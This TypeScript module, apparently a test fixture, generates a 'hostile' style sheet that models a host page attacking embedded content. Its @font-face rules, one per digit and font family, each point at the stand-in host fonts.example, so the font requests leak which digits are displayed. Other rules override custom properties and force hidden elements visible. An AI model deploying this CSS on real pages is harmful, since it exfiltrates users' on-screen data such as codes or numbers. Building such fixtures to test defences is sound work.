export const FONT_HOST = 'https://fonts.example';

/** The page's own words are small: what is drawn on it is the largest text. */
const SMALL = '.note-item .footer{font-size:2px}';

const FAMILIES = [
  'system-ui',
  'sans-serif',
  'serif',
  'monospace',
  'ui-sans-serif',
  '-apple-system',
  'BlinkMacSystemFont',
  'Arial',
  'Helvetica',
  'Helvetica Neue',
  'Segoe UI',
  'Roboto',
  'DejaVu Sans',
  'Liberation Sans',
  'PingFang SC',
  'Microsoft YaHei',
  'Noto Sans',
  'Noto Sans CJK SC',
  'WenQuanYi Zen Hei',
  'Inter',
];

/** One font per digit and family: which are fetched says which digits are drawn. */
const FONTS = FAMILIES.flatMap((family) =>
  Array.from(
    { length: 10 },
    (_, digit) =>
      `@font-face{font-family:"${family}";src:url(${FONT_HOST}/${encodeURIComponent(family)}/${digit});unicode-range:U+3${digit}}`,
  ),
).join('\n');

/** Every name that a property could have is declared and set, to a number of the page's own. */
const properties = (names: readonly string[]) =>
  names
    .map((name) => `@property ${name}{syntax:"*";inherits:true;initial-value:"666"}*{${name}:"666"!important}`)
    .join('\n');

/** Our hosts by tag, by attribute and by `*`. */
const RESTYLED = ['div:empty', '[style]:empty', '.note-item *:empty', '*:empty:not(a,link,meta,script,iframe)']
  .map(
    (selector) =>
      `${selector}{all:revert!important;position:static!important;display:inline-block!important;width:max-content!important;height:auto!important;contain:none!important;overflow:visible!important;font:40px monospace!important}`,
  )
  .join('\n');

/** The style sheet of a page against us: what it draws its own words with, and how it would have ours drawn. */
export function hostileCss(names: readonly string[], restyle: boolean): string {
  return `${SMALL}\n${FONTS}\n${properties(names)}\n${restyle ? RESTYLED : ''}`;
}
